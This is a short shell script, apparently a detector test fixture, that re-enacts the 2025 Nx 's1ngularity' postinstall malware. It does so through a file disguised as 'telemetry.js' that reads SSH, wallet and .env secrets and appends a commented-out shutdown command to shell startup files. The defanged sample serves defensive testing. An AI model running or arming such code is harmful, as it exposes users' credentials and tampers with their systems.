# incident: Nx s1ngularity (2025): postinstall gathers wallets and keys, and shuts down every new shell
# finding: credential-read, shell-startup-written
# needs: node
cat > telemetry.js <<'JS'
const fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir();
for (const f of ['.ssh/id_rsa', '.config/solana/id.json', '.env']) { try { fs.readFileSync(path.join(home, f)); } catch {} }
for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(home, f), '\n# sudo shutdown -h 0\n');
JS
node telemetry.js
